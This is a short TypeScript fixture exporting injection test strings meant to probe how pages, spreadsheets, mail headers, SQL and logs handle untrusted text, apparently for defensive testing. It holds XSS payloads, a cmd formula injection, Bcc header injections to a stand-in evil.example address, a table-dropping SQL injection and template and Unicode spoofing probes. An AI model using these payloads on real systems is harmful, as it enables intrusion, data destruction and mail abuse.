/**
 * Texts that attack whatever does not treat them as text: a page, a spreadsheet, a mail header, an SQL statement, a
 * log.
 */
export const payloads = [
  '<script>window.ran=1</script>',
  '"><img src=x onerror=alert(1)>',
  '=cmd|"/c calc"!A1',
  'x\r\nBcc: eve@evil.example\r\n\r\n<b>Hello</b>',
  'x\nBcc: eve@evil.example',
  'x\rBcc: eve@evil.example',
  'x\u2028Bcc: eve@evil.example',
  'x%0d%0aBcc: eve@evil.example',
  'a\u0000b and what comes behind it',
  'half of a pair: \ud800, and more',
  '\u202egnp.exe and \u{1f3e0}\u{20bb7}',
  "'; drop table logins; -- and more",
  '{{7*7}} ${7*7} %s%n \\u003cscript\\u003e',
] as const;
